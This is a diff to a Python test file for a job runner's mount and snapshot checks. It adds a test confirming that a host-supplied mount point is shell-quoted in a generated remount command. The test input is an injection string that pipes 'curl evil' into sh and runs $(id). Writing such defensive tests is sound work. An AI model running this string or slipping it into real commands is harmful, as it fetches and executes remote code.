@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from dataclasses import replace
 from datetime import timedelta
 from typing import Any
@@ -9,6 +10,7 @@ from typing import Any
 import pytest
 
 from runner.jobs.catalogue import KINDS
+from runner.jobs.snapshots import mounted
 from runner.jobs.snapshots.check import CheckKind
 from runner.jobs.snapshots.report import too_many_links
 from runner.model.kind import Draft
@@ -128,6 +130,14 @@ def test_a_store_on_a_filesystem_where_programs_keep_their_rights_is_told_unless
     kept = site()
     disk = Job(name="disk", kind="disk", host="server", options=DiskOptions(disk=kept.stores[0].disk))
     assert draft(sealed(9), here=replace(kept, jobs=(*kept.jobs, disk)), lacks=["nodev"]).findings == ()
+
+
+def test_a_mount_point_that_its_host_made_up_is_one_word_of_the_command() -> None:
+    place = "/srv/backups/x; curl evil|sh $(id)"
+    seen = [{"mount": place, "source": "/dev/sdb1", "type": "ext4", "dev": 2081}]
+    known = {"server": {"filesystems": seen, "store": {"path": f"{place}/papio", "lacks": ["nosuid"]}}}
+    (finding,) = mounted.harmful(site(), site().stores[0], parts.facts(known))
+    assert shlex.split(finding.command) == ["mount", "-o", "remount,nosuid", place]
 
 
 def test_on_the_root_filesystem_only_the_mode_keeps_users_away_and_that_is_a_note() -> None:
